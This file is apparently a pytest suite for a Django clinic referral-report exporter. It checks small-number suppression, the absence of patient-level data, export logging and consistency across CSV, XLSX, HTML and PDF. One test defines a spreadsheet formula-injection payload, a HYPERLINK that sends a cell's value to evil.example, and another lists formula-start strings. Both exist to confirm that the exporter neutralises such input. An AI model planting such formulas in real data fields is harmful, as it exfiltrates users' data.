"""Exports: CSV, XLSX, printable HTML and PDF give the page's numbers, suppressed, aggregates only."""

import csv
import io

import pytest
import time_machine
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from referrals.models import AccessLogEntry
from tests.factories import TargetFactory, login
from tests.reports_helpers import NOW, in_english, month_of_contacts

REQUIRED_COLUMNS = [
    "month",
    "unit_code",
    "unit_name",
    "eligible",
    "referred",
    "rate_percent",
    "ci_low_percent",
    "ci_high_percent",
    "target_percent",
]


@pytest.fixture(autouse=True)
def frozen_now(client):
    in_english(client)
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def october(unit_a, unit_b, clinic):
    """Unit A: 3 of 12 referred (25.0 %, 8.9–53.2); unit B: 24 of 60; clinic target 40 %."""
    month_of_contacts(unit_a, patients=12, referred=3, repeat=2)
    month_of_contacts(unit_b, patients=60, referred=24, prefix=1000)
    TargetFactory(unit=clinic, target_percent=40)


def _xlsx_first_row(content: bytes) -> dict:
    """The first data row of the report sheet, keyed by the CSV's machine column names."""
    from reports.exports import COLUMNS, heading

    sheet = load_workbook(io.BytesIO(content)).active
    by_heading = {heading(column): column for column in COLUMNS}
    header = [by_heading[cell.value] for cell in sheet[1]]
    return dict(zip(header, [cell.value for cell in sheet[2]], strict=True))


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


def test_csv_has_the_required_columns_with_one_decimal_and_a_dot(client, lead_a, october):
    login(client, lead_a)

    response = client.get(reverse("reports:export", args=["csv"]), {"month": "2026-10"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="referral-report-RUS-POL-2026-10.csv"' in response["Content-Disposition"]
    rows = _csv_rows(response.content)
    assert list(rows[0])[: len(REQUIRED_COLUMNS)] == REQUIRED_COLUMNS
    october_row = rows[0]
    assert {column: october_row[column] for column in REQUIRED_COLUMNS} == {
        "month": "2026-10",
        "unit_code": "RUS-POL",
        "unit_name": "Rus poliklinikk",
        "eligible": "12",
        "referred": "<5",  # an export leaves the unit: suppressed even for the lead
        # 25.0 % of 12 would give the 3 back: the rate and its interval are suppressed with the count.
        "rate_percent": "",
        "ci_low_percent": "",
        "ci_high_percent": "",
        "target_percent": "40.0",
    }
    assert october_row["note"] == "suppressed (small numbers)"
    assert len(rows) == 12  # the trend's months, newest first
    assert rows[1]["month"] == "2026-09" and rows[1]["eligible"] == "0" and rows[1]["note"] == "too few"


def test_csv_never_holds_patient_level_data(client, lead_a, unit_a, october):
    login(client, lead_a)
    pseudonym = unit_a.contacts.first().patient_pseudonym

    content = client.get(reverse("reports:export", args=["csv"])).content.decode()

    assert pseudonym not in content
    assert "pseudonym" not in content


def test_page_exports_and_command_give_the_same_numbers(client, lead_a, unit_a, clinic, tmp_path):
    # 6 of 12: neither the referred nor the others are from 1 to 4, so files show the rate too.
    month_of_contacts(unit_a, patients=12, referred=6, repeat=2)
    TargetFactory(unit=clinic, target_percent=40)
    login(client, lead_a)
    params = {"unit": unit_a.code, "month": "2026-10", "indicator": "referral_rate"}

    page = client.get(reverse("reports:report"), params).context
    csv_row = _csv_rows(client.get(reverse("reports:export", args=["csv"]), params).content)[0]
    xlsx_row = _xlsx_first_row(client.get(reverse("reports:export", args=["xlsx"]), params).content)
    output = tmp_path / "report.csv"
    call_command(
        "monthly_report", "--month", "2026-10", "--unit", unit_a.code, "--format", "csv", "--output", str(output)
    )
    command_row = _csv_rows(output.read_bytes())[0]

    headline = page["headline"]
    assert (headline.denominator, str(headline.percent), str(headline.low), str(headline.high)) == (
        "12",
        "50.0",
        "25.4",
        "74.6",
    )
    for row in (csv_row, command_row):
        assert (row["eligible"], row["rate_percent"], row["ci_low_percent"], row["ci_high_percent"]) == (
            "12",
            "50.0",
            "25.4",
            "74.6",
        )
    assert (xlsx_row["eligible"], xlsx_row["referred"], xlsx_row["rate_percent"]) == (12, 6, 50.0)
    assert (xlsx_row["ci_low_percent"], xlsx_row["ci_high_percent"], xlsx_row["target_percent"]) == (25.4, 74.6, 40.0)
    assert command_row == csv_row


def test_comparison_csv_matches_the_comparison_page_and_the_command(client, analyst, unit_a, unit_b, october, tmp_path):
    login(client, analyst)
    params = {"month": "2026-10"}

    page_rows = {
        row["unit"].code: row["rate"] for row in client.get(reverse("reports:compare"), params).context["rows"]
    }
    csv_rows = {
        row["unit_code"]: row
        for row in _csv_rows(client.get(reverse("reports:compare_export", args=["csv"]), params).content)
    }
    output = tmp_path / "all.csv"
    call_command("monthly_report", "--month", "2026-10", "--format", "csv", "--output", str(output))
    command_rows = {row["unit_code"]: row for row in _csv_rows(output.read_bytes())}

    assert set(page_rows) == set(csv_rows) == set(command_rows) == {unit_a.code, unit_b.code}
    for code, rate in page_rows.items():
        shown = "" if rate.percent is None else str(rate.percent)
        assert csv_rows[code]["rate_percent"] == command_rows[code]["rate_percent"] == shown
        assert csv_rows[code]["eligible"] == command_rows[code]["eligible"] == rate.denominator
    assert csv_rows[unit_b.code]["rate_percent"] == "40.0"
    assert csv_rows[unit_a.code]["rate_percent"] == ""  # 3 of 12: the rate would reveal the 3


def test_xlsx_has_a_definitions_sheet(client, lead_a, october):
    login(client, lead_a)

    workbook = load_workbook(io.BytesIO(client.get(reverse("reports:export", args=["xlsx"])).content))

    assert workbook.sheetnames == ["Report", "About the figures", "Definitions"]
    definitions = " ".join(
        str(cell.value)
        for sheet in ("About the figures", "Definitions")
        for row in workbook[sheet].iter_rows()
        for cell in row
        if cell.value
    )
    assert "Wilson" in definitions and "BMC Health Serv Res 2009;9:147" in definitions


def test_printable_html_links_its_stylesheet_and_has_the_chart(client, lead_a, october):
    login(client, lead_a)

    response = client.get(reverse("reports:export", args=["html"]))
    content = response.content.decode()

    assert response.status_code == 200
    assert "<style>" not in content  # the browser page obeys the CSP
    assert "reports-print.css" in content
    assert 'role="img"' in content and "Referred: &lt;5." in content
    assert "25.0" not in content and "53.2" not in content  # 3 of 12: rate and interval would reveal the 3


def test_pdf_is_a_pdf_with_the_chart(client, lead_a, october):
    login(client, lead_a)

    response = client.get(reverse("reports:export", args=["pdf"]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


def test_exports_are_logged_as_aggregate_exports(client, lead_a, unit_a, october):
    login(client, lead_a)

    client.get(reverse("reports:export", args=["csv"]))

    entry = AccessLogEntry.objects.get(action="export")
    assert (entry.user, entry.unit, entry.contact, entry.patient_pseudonym) == (lead_a, unit_a, None, "")


def test_export_with_bad_month_is_refused_clearly(client, lead_a, october):
    login(client, lead_a)

    response = client.get(reverse("reports:export", args=["csv"]), {"month": "2026-99"})

    assert response.status_code == 400
    assert "YYYY-MM" in response.content.decode()


def test_unknown_export_format_is_not_found(client, lead_a):
    login(client, lead_a)

    assert client.get("/reports/export.docx").status_code == 404


def test_per_clinician_figures_stay_on_the_leads_screen(client, lead_a, unit_a):
    from tests.factories import UserFactory

    anna = UserFactory(username="anna", first_name="Anna", last_name="Berg")
    month_of_contacts(unit_a, patients=12, referred=3, clinician=anna)
    login(client, lead_a)

    page = client.get(reverse("reports:report")).content.decode()
    printable = client.get(reverse("reports:export", args=["html"])).content.decode()

    assert "Anna Berg" in page
    assert "Anna Berg" not in printable


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "html"])
def test_files_hide_the_rate_and_the_referred_count_when_the_non_referred_are_from_1_to_4(
    client, lead_a, unit_a, file_format
):
    # 12 of 14: "12" or "85.7 %" with n = 14 would give away the 2 patients who were not referred.
    month_of_contacts(unit_a, patients=14, referred=12)
    login(client, lead_a)

    content = client.get(reverse("reports:export", args=[file_format]), {"month": "2026-10"}).content

    if file_format == "csv":
        row = _csv_rows(content)[0]
        assert (row["eligible"], row["referred"], row["rate_percent"]) == ("14", "hidden", "")
        assert row["ci_low_percent"] == ""
        assert (row["ci_high_percent"], row["note"]) == ("", "suppressed (small numbers)")
    elif file_format == "xlsx":
        row = _xlsx_first_row(content)
        # Never an empty cell: a hidden count or rate says so.
        assert (row["eligible"], row["referred"], row["rate_percent"], row["ci_low_percent"]) == (
            14,
            "hidden",
            "hidden",
            "hidden",
        )
    else:
        text = content.decode()
        assert "Patients this month: 14." in text and "Referred: hidden." in text
        assert "hidden of 14" not in text
        assert "85.7" not in text and "60.1" not in text and "12 of 14" not in text
        assert "The breakdowns by fellowship" in text  # breakdowns that add up to the totals are left out


def test_pooled_figures_are_hidden_when_they_would_give_back_a_units_small_count(client, analyst, october):
    # Unit A's 3 referred show as "<5"; the exact total over A and B (27 of 72) minus B's 24 would give 3.
    login(client, analyst)

    content = client.get(reverse("reports:compare_export", args=["html"]), {"month": "2026-10"}).content.decode()

    # The pooled number of patients (72) gives nothing back (every unit's is shown); its referred count would.
    assert ">27<" not in content and "37.5" not in content


def test_previous_three_months_are_hidden_in_files_when_one_of_them_hides_a_small_count(client, lead_a, unit_a):
    from tests.reports_helpers import OCTOBER

    month_of_contacts(unit_a, patients=20, referred=2, month=OCTOBER.replace(month=9))  # 2 of 20 in September
    month_of_contacts(unit_a, patients=20, referred=8, month=OCTOBER.replace(month=8), prefix=100)
    month_of_contacts(unit_a, patients=20, referred=10, prefix=200)
    login(client, lead_a)

    content = client.get(reverse("reports:export", args=["html"]), {"month": "2026-11"}).content.decode()

    # August 8 of 20 and October 10 of 20 are exact in the trend table; 40 patient-months and 33.3 % would give 2.
    assert "n = 60 patient-months" not in content and "33.3" not in content
    assert "too few to compare" in content


EVIL_NAME = '=HYPERLINK("http://evil.example/?"&B2,"Enhet B2")'


def test_a_unit_named_like_a_formula_is_text_in_the_csv_and_the_xlsx(client, analyst, unit_a):
    unit_a.name = EVIL_NAME
    unit_a.save()
    month_of_contacts(unit_a, patients=12, referred=6)
    login(client, analyst)
    params = {"month": "2026-10"}

    csv_row = _csv_rows(client.get(reverse("reports:compare_export", args=["csv"]), params).content)[0]
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("reports:compare_export", args=["xlsx"]), params).content)
    ).active
    name_cell = sheet.cell(row=2, column=3)

    assert csv_row["unit_name"] == "'" + EVIL_NAME
    assert (name_cell.data_type, name_cell.value) == ("s", "'" + EVIL_NAME)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_spreadsheet_safe_neutralises_every_formula_start_and_keeps_numbers():
    from core.spreadsheets import spreadsheet_safe, unescape

    for text in ("=1+1", "+1", "-A1", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_safe(text) == "'" + text
        assert unescape(spreadsheet_safe(text)) == text
    assert [spreadsheet_safe(text) for text in ("-5", "12.5", "Enhet", "")] == ["-5", "12.5", "Enhet", ""]
